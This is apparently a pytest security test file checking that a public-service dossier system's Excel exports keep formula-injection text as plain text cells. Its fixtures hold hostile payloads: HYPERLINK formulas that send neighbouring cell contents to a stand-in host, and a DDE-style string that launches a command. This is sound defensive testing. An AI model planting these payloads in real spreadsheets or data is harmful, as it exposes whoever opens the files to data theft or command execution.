"""Formula injection: text from the sources must stay text in every workbook the service writes.

A dossier pushed by the portal or a spreadsheet import can carry an applicant name, a
procedure, a lĩnh vực or a handling body that starts with "=" (or +, -, @, a tab, a carriage
return). Opened in Excel, a cell holding it as a formula runs it: `=HYPERLINK(...)` sends the
neighbouring cells to another site at a click. Each export is downloaded over HTTP from the
running server as its users download it, and opened with openpyxl: every cell holding such
text must be a text cell with the text as stored, and no cell of any sheet a formula.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from service.complaints.store import submit_public
from service.models import Alert, AlertDelivery, Complaint, Dossier, Procedure, Unit
from service.models.alerts import AlertKind, DeliveryState
from service.runtime import Runtime
from tests.builders import ingest, record
from tests.conftest import UNIT_CODE, local
from tests.security.conftest import SEEDED_AT, Answer, Stand, default_seed

RISKY_CODE = "000.32.26.H26-261110-0099"
# What an attacker puts in each field the sources fill, one way of starting a formula each.
RISKY = {
    "applicant_name": '=HYPERLINK("http://ke-xau.example/?"&A1&B1,"Bấm để xem hồ sơ")',
    "procedure_name": '+HYPERLINK("http://ke-xau.example/","Thủ tục")',
    "domain_name": '=HYPERLINK("http://ke-xau.example/?"&C11,"Hộ tịch")',
    "handler": "@SUM(1+1)*cmd|' /C calc'!A0",
    "received_by": "-2+3",
}
REASON = "\t=1+1 lý do"       # an apology's reason, read back from the database as stored
COMPLAINT_BODY = "\r=HYPERLINK(\"http://ke-xau.example/\",\"Cơ quan\")"
ALERT_ERROR = '=HYPERLINK("http://ke-xau.example/","550 hộp thư đầy")'
PERIOD = "unit=000.32.26.H26&period=2026-11-01..2026-12-31&windows=calendar"


def risky_seed(session: Session, runtime: Runtime, tokens: dict[str, str]) -> None:
    """The default seed, a late dossier of unit A whose texts are formulas, an alert about it
    whose delivery failed with a formula for an error, and a complaint to pass on."""
    # Ingested first: the ingest commits in its own session, before this one starts writing.
    ingest(runtime, SEEDED_AT, record(RISKY_CODE, local(2026, 11, 10, 9),
                                      procedure_code="9.990099", **RISKY))
    default_seed(session, runtime, tokens)
    dossier = session.scalar(select(Dossier).where(Dossier.code == RISKY_CODE))
    dossier.extension_due_at = local(2026, 11, 20, 17)
    dossier.extension_reason = REASON
    alert = Alert(dossier_id=dossier.id, kind=AlertKind.OVERDUE, level=1,
                  recipient="email:canbo_a", recipient_name="=Cán bộ", recipient_role="clerk",
                  due_at=dossier.due_at, created_at=SEEDED_AT, send_after=SEEDED_AT)
    session.add(alert)
    session.flush()
    session.add(AlertDelivery(alert_id=alert.id, channel="email", state=DeliveryState.FAILED,
                              attempts=3, next_attempt_at=SEEDED_AT, last_error=ALERT_ERROR))
    unit_id = session.scalar(select(Unit.id).where(Unit.code == UNIT_CODE))
    policy = runtime.complaint_policy
    submit_public(session, policy, unit_id, "Trần Văn Khiếu", "0912000111",
                  "Hồ sơ của tôi đã quá hạn mà chưa được trả kết quả.", SEEDED_AT)


@pytest.fixture(scope="module")
def stand_seed() -> Callable[[Session, Runtime, dict[str, str]], None]:
    return risky_seed


@pytest.fixture(scope="module")
def stored(stand: Stand) -> dict[str, str]:
    """The risky texts as the database holds them after ingestion."""
    with stand.runtime.sessions() as session:
        dossier = session.scalar(select(Dossier).where(Dossier.code == RISKY_CODE))
        procedure = session.get_one(Procedure, dossier.procedure_id)
        found = {"applicant_name": dossier.applicant_name, "procedure_name": procedure.name,
                 "domain_name": procedure.domain_name, "handler": dossier.handler,
                 "received_by": dossier.received_by, "reason": dossier.extension_reason}
    for name, text in found.items():
        assert text and text[0] in "=+-@\t\r", f"{name} lost its attack on the way in: {text!r}"
    return found


def workbook(answer: Answer) -> Any:
    """The downloaded workbook's only sheet, after checking no part of it holds a formula."""
    assert answer.status == 200, answer.status
    assert (answer.header("Content-Type") or "").startswith("application/vnd.openxmlformats")
    with zipfile.ZipFile(io.BytesIO(answer.body)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", package.read(name)), f"a formula in {name}"
    sheet = load_workbook(io.BytesIO(answer.body)).active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    return sheet


def cells_holding(sheet: Any, text: str) -> list[Any]:
    """The cells whose value is `text` (a carriage return read back as a line feed, as XML
    readers turn it, in workbooks openpyxl writes)."""
    wanted = {text, text.replace("\r", "\n")}
    return [cell for row in sheet.iter_rows() for cell in row if cell.value in wanted]


def assert_text(sheet: Any, text: str, where: str) -> None:
    """The text is in the sheet, each time as a text cell that cannot become a formula."""
    found = cells_holding(sheet, text)
    assert found, f"{text!r} is missing from {where}"
    for cell in found:
        assert (cell.data_type, cell.quotePrefix) == ("s", True), (where, cell.coordinate)


def test_the_list_export_keeps_every_source_text_as_text(stand: Stand,
                                                        stored: dict[str, str]) -> None:
    sheet = workbook(stand.signed_in("canbo_a").get("/ho-so/xuat.xlsx"))
    for name in RISKY:
        assert_text(sheet, stored[name], f"the list export ({name})")


def test_the_list_export_filtered_by_a_formula_keeps_the_title_text(stand: Stand,
                                                                    stored: dict[str, str]
                                                                    ) -> None:
    # The filter is echoed in the title line: the handler the clerk filtered by.
    handler = stored["handler"]
    answer = stand.signed_in("canbo_a").get(
        "/ho-so/xuat.xlsx?handler=" + re.sub(r"[^A-Za-z0-9]", lambda m: f"%{ord(m[0]):02X}",
                                             handler))
    sheet = workbook(answer)
    assert sheet["A2"].value == f"Bộ lọc: Cơ quan giải quyết: {handler}"
    assert sheet["A2"].data_type == "s"
    assert_text(sheet, handler, "the filtered list export")


def test_form06_keeps_a_formula_like_domain_as_text(stand: Stand,
                                                   stored: dict[str, str]) -> None:
    sheet = workbook(stand.signed_in("canbo_a").get(f"/bao-cao/bieu-06.xlsx?{PERIOD}"))
    assert_text(sheet, stored["domain_name"], "Biểu 06")


def test_late_by_body_keeps_the_body_and_the_reason_as_text(stand: Stand,
                                                           stored: dict[str, str]) -> None:
    sheet = workbook(stand.signed_in("canbo_a").get(
        f"/bao-cao/thoi-gian-giai-quyet/tre-han.xlsx?{PERIOD}"))
    assert_text(sheet, stored["handler"], "late by body")
    # The report shows a reason without its outer whitespace: "=1+1 lý do".
    assert_text(sheet, stored["reason"].strip(), "late by body (apology reason)")


def test_the_complaints_report_keeps_a_body_passed_on_by_form_as_text(stand: Stand) -> None:
    clerk = stand.signed_in("canbo_a")
    with stand.runtime.sessions() as session:
        code = session.scalar(select(Complaint.code))
    page = f"/phan-anh-kien-nghi/{code}"
    passed = clerk.post(f"{page}/chuyen-xu-ly",
                        {"handler": COMPLAINT_BODY, "csrf_token": clerk.csrf(page)})
    assert passed.status in (302, 303), passed.status
    with stand.runtime.sessions() as session:
        held = session.scalar(select(Complaint.handler).where(Complaint.code == code))
    assert held and held.lstrip()[0] == "=", held
    sheet = workbook(clerk.get(f"/bao-cao/phan-anh-kien-nghi.xlsx?{PERIOD}"))
    assert_text(sheet, held, "the complaints report")


def test_the_alerts_export_keeps_names_and_errors_as_text(stand: Stand) -> None:
    sheet = workbook(stand.signed_in("quantri").get("/quan-tri/canh-bao/xuat.xlsx"))
    assert_text(sheet, ALERT_ERROR, "the alerts export (delivery error)")
    assert_text(sheet, "=Cán bộ", "the alerts export (recipient)")


def test_the_seeded_dossier_is_late_when_the_reports_judge_it(stand: Stand) -> None:
    # The late-by-body and Biểu 06 checks need the dossier inside their period and late.
    due = stand.dossier(RISKY_CODE).due_at
    assert due is not None and due < dt.datetime.now(dt.UTC)
